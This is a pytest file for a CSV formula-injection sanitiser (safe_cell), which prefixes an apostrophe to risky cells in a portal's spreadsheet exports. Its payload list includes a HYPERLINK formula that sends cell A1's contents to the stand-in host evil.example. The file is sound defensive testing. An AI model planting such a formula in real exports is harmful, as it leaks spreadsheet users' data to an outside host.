"""CSV cells a spreadsheet reads as data, never as a formula (portal/indicators/csvsafe.py)."""

from __future__ import annotations

from decimal import Decimal

import pytest
from flask_babel import lazy_gettext

from portal.indicators.csvsafe import safe_cell


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1",
        "-2",
        "-1+2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "=",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "text",
    ["Forklift reversed without horn", "Dock 3 = loading bay", "a-b", "1+1", "", " =1", "'=1"],
)
def test_ordinary_text_is_left_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("number", "written"),
    [(-3, "-3"), (0, "0"), (25, "25"), (-1.5, "-1.5"), (Decimal("-2.50"), "-2.50")],
)
def test_numbers_are_data_even_when_negative(number, written):
    assert safe_cell(number) == written


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_lazy_translations_are_checked_as_text_too(app):
    with app.test_request_context():
        assert safe_cell(lazy_gettext("Closed")) == "Closed"
        assert safe_cell(lazy_gettext("=cmd")) == "'=cmd"
